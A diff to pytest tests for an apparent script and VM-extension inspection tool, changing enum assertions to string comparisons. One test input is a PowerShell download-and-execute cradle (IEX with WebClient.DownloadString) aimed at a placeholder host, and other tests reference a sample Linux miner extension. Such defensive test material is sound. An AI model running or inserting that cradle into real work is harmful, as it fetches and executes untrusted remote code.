@@ -6,7 +6,6 @@ import pytest
 
 from inspector.config import Settings
 from inspector.extensions import (
-    ExtensionKind,
     InputError,
     InputKind,
     InspectionInput,
@@ -24,7 +23,7 @@ from tests.extensions.samples import SAS_SIG, as_json, cse_linux_miner
 def test_raw_script_is_submitted_with_the_language_given_or_from_its_name():
     p = understand(InspectionInput(kind=InputKind.SCRIPT, content=b"IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
                                    language=ArtifactType.POWERSHELL))
-    assert p.kind is ExtensionKind.SCRIPT
+    assert p.kind == "script"
     [script] = p.scripts
     assert (script.origin, script.role, script.language) == ("input", ScriptRole.SUBMITTED, ArtifactType.POWERSHELL)
     p = understand(InspectionInput(kind=InputKind.SCRIPT, content=b"echo hi", filename="setup.sh"))
@@ -34,14 +33,14 @@ def test_raw_script_is_submitted_with_the_language_given_or_from_its_name():
 def test_file_input_is_submitted_whole_even_when_binary():
     data = bytes(range(256)) * 4
     p = understand(InspectionInput(kind=InputKind.FILE, content=data, filename="x.bin"))
-    assert p.kind is ExtensionKind.FILE and p.scripts[0].content == data
+    assert p.kind == "file" and p.scripts[0].content == data
     assert p.redacted_request == {"filename": "x.bin", "size": 1024}
 
 
 def test_url_input_is_one_entry_point_with_a_redacted_form():
     url = f"https://acct.blob.core.windows.net/c/run.ps1?sv=2022-11-02&sig={SAS_SIG}"
     p = understand(InspectionInput(kind=InputKind.URL, url=url))
-    assert p.kind is ExtensionKind.URL
+    assert p.kind == "url"
     [planned] = p.urls
     assert (planned.origin, planned.role, planned.url) == ("url", UrlRole.ENTRY_POINT, url)
     assert SAS_SIG not in planned.redacted and p.entry_point == "url"
@@ -58,17 +57,17 @@ def test_bad_url_inputs_are_input_errors(url):
 def test_auto_detects_from_content_and_keeps_the_caller_context():
     p = understand(InspectionInput(kind=InputKind.AUTO, content=as_json(cse_linux_miner()).encode(),
                                    context=RequestContext(vm_size="Standard_B2s")))
-    assert p.kind is ExtensionKind.CUSTOM_SCRIPT_LINUX and p.context.vm_size == "Standard_B2s"
+    assert p.kind == "custom_script_linux" and p.context.vm_size == "Standard_B2s"
 
 
 def test_auto_with_a_parsed_body_of_unknown_shape_scans_it_as_json_text():
     p = understand(InspectionInput(kind=InputKind.AUTO, body={"hello": "world"}))
-    assert p.kind is ExtensionKind.FILE and p.scripts[0].language is ArtifactType.JSON
+    assert p.kind == "file" and p.scripts[0].language is ArtifactType.JSON
 
 
 def test_json_bodies_may_arrive_as_text():
     p = understand(InspectionInput(kind=InputKind.EXTENSION, body=as_json(cse_linux_miner())))
-    assert p.kind is ExtensionKind.CUSTOM_SCRIPT_LINUX
+    assert p.kind == "custom_script_linux"
 
 
 @pytest.mark.parametrize(
